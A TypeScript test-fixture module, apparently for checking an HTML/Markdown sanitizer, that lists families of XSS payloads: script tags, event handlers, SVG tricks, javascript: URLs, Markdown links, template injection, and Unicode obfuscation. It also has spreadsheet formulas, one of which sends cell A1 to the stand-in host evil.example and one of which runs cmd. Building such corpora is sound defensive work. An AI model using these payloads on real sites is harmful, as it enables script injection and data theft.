/**
 * Texts that would like to be something else: each makes an element (`data-planted`), runs a script (`alert`,
 * `planted`) or asks another server for something, if a page takes it for more than a text.
 */
const families: readonly (readonly string[])[] = [
  // Elements with scripts in them.
  [
    "<script data-planted>alert(1)</script>",
    "<SCRIPT data-planted SRC=//evil.example/x.js></SCRIPT>",
    "</title></textarea></style></script><script data-planted>alert(1)</script>",
    '"><script data-planted>alert(1)</script>',
    "'><script data-planted>alert(1)</script>",
    "<scr<script>ipt data-planted>alert(1)</scr</script>ipt>",
    "<script data-planted\n>planted=1</script\n>",
    "<!--><script data-planted>alert(1)</script-->",
    "]]><script data-planted>alert(1)</script>",
    "<noscript><p title='</noscript><img data-planted src=x onerror=alert(1)>'>",
    '<template><img data-planted src=x onerror=alert(1)></template><iframe data-planted srcdoc="<script>alert(1)</script>">',
  ],
  // Handlers of events.
  [
    "<img data-planted src=x onerror=alert(1)>",
    "<img data-planted src=x onerror=alert`1`>",
    '<img data-planted src="x" alt="`" onerror="globalThis.planted=1">',
    "<IMG data-planted SRC=x OnErRoR=&#97;lert(1)>",
    "<img/data-planted/src=x/onerror=alert(1)//",
    "<body data-planted onload=alert(1)><img data-planted src=x onerror=alert(1)>",
    "<input data-planted autofocus onfocus=alert(1)>",
    "<details data-planted open ontoggle=alert(1)><summary>x</summary></details>",
    "<video data-planted><source onerror=alert(1)></video>",
    "<audio data-planted src=x onerror=alert(1)>",
    "<div data-planted onpointerover=alert(1) style='position:fixed;inset:0'>x</div>",
    "<p data-planted style=animation:x onanimationstart=alert(1)>x",
    '" onmouseover="alert(1)" data-planted="',
    "' onfocus='alert(1)' autofocus data-planted='",
    "` onfocus=alert(1) autofocus data-planted",
  ],
  // Drawings and other languages.
  [
    "<svg data-planted onload=alert(1)>",
    "<svg data-planted><script>alert(1)</script></svg>",
    "<svg data-planted><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg data-planted><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg data-planted><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math data-planted><mtext></mtext><mglyph><style></math><img data-planted src=x onerror=alert(1)>",
    "<style data-planted>@import '//evil.example/x.css';</style>",
    "<link data-planted rel=stylesheet href=//evil.example/x.css>",
    "<style data-planted>*{background:url(//evil.example/x)}</style>",
  ],
  // Frames, forms and addresses.
  [
    "<iframe data-planted src=javascript:alert(1)>",
    "<iframe data-planted srcdoc='<img src=x onerror=parent.alert(1)>'></iframe>",
    "<object data-planted data=//evil.example/x></object>",
    "<embed data-planted src=//evil.example/x>",
    "<base data-planted href=//evil.example/>",
    "<meta data-planted http-equiv=refresh content='0;url=//evil.example/'>",
    "<form data-planted action=//evil.example/><button>x</button></form>",
    "<a data-planted href=javascript:alert(1)>x</a>",
    "<a data-planted href='java\tscript:alert(1)'>x</a>",
    "<a data-planted href=data:text/html,<script>alert(1)</script>>x</a>",
    "<img data-planted src=//evil.example/x.png>",
    "javascript:alert(1)",
    "JaVaScRiPt://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
  ],
  // Markdown.
  [
    "**[x](javascript:alert(1))** [y](<data:text/html,<script>alert(1)</script>>) <javascript:alert(1)>",
    "[![x](https://evil.example/x.png)](vbscript:alert(1)) ![y](//evil.example/y.png)",
    "[x](javascript:alert(1))",
    "[x](JaVa\tScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\u006aavascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](//evil.example/x.png)",
    '![x](x"onerror="alert(1))',
    "<https://evil.example/\"onmouseover='alert(1)'>",
    "> - **<img data-planted src=x onerror=alert(1)>**",
    "| <script data-planted>alert(1)</script> |\n| - |\n| [x](javascript:alert(1)) |",
    "```<img data-planted src=x onerror=alert(1)>\n</code></pre><script data-planted>alert(1)</script>\n```",
    "<@<img data-planted src=x onerror=alert(1)>>",
  ],
  // Languages that texts are written in elsewhere.
  [
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7*7 %>#{7*7}",
    '=HYPERLINK("//evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1\t-2",
  ],
  // Tricks with signs.
  [
    "＜img data-planted src=x onerror=alert(1)＞",
    "\u202e<img data-planted src=x onerror=alert(1)>",
    "<img\u00a0data-planted src=x onerror=alert(1)><ﬁmg>",
    "&lt;img data-planted src=x onerror=alert(1)&gt;",
    "\\u003cimg data-planted src=x onerror=alert(1)\\u003e",
    "%3Cimg%20data-planted%20src=x%20onerror=alert(1)%3E",
    "<\u2028img data-planted src=x onerror=alert(1)>",
    "__proto__",
  ],
];

/** All of it. */
export const corpus: readonly string[] = families.flat();

/** The first few of each kind, for every day. */
export const everydayCorpus: readonly string[] = families.flatMap((family) => family.slice(0, 2));
